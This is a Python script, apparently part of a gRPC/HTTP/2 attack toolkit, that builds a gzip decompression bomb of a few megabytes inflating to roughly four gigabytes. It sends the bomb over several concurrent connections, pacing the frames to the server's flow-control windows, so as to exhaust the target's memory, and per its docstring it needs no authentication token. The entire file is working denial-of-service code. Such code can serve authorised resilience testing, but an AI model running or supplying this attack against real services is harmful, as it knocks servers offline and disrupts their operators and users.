"""Gzip bombs: a message of a few MB that inflates to GBs, several at once. Without a token."""
import zlib

from attack_program import MATCH, program
from h2wire import DATA, END_HEADERS, END_STREAM, HEADERS, WINDOW_UPDATE, frame, message, request_block

ZEROS = bytes(1 << 20)


def bomb(inflated):
    """A gzip stream of so many zeros. A block after a full flush depends on nothing before it, so one is made and repeated."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, 31)
    head = deflate.compress(ZEROS) + deflate.flush(zlib.Z_FULL_FLUSH)
    block = deflate.compress(ZEROS) + deflate.flush(zlib.Z_FULL_FLUSH)
    blocks, sum_ = inflated >> 20, 0
    for _ in range(blocks):
        sum_ = zlib.crc32(ZEROS, sum_)
    end = b"\x03\x00" + sum_.to_bytes(4, "little") + ((blocks << 20) & 0xFFFFFFFF).to_bytes(4, "little")
    return head + block * (blocks - 1) + end


def run(attack):
    body = message(bomb(attack.options.inflated_megabytes * 1_000_000), compressed=1)
    held = [attack.connect() for _ in range(attack.options.connections)]
    for connection in held:
        connection.wait(1.0, lambda frames: frames)
        number = connection.stream()
        connection.send(frame(HEADERS, END_HEADERS, number, request_block(MATCH, ("grpc-encoding", "gzip"), token=attack.options.token)))
        connection.body, connection.windows, connection.number = body, {0: 65535, number: 65535}, number
    # In turn, as the peer's windows allow.
    while attack.more() and any(c.open and c.body for c in held):
        for connection in held:
            for kind, _, stream, payload in connection.receive() if connection.open else []:
                if kind == WINDOW_UPDATE:
                    connection.windows[stream] += int.from_bytes(payload, "big")
            piece = connection.body[:min(16384, *connection.windows.values())]
            if connection.open and piece:
                connection.body = connection.body[len(piece):]
                for stream in connection.windows:
                    connection.windows[stream] -= len(piece)
                connection.send(frame(DATA, 0 if connection.body else END_STREAM, connection.number, piece))
    attack.hold(held)


if __name__ == "__main__":
    program(__doc__, run, count=3, connections=3, megabytes=40, seconds=20.0, inflated_megabytes=4190)
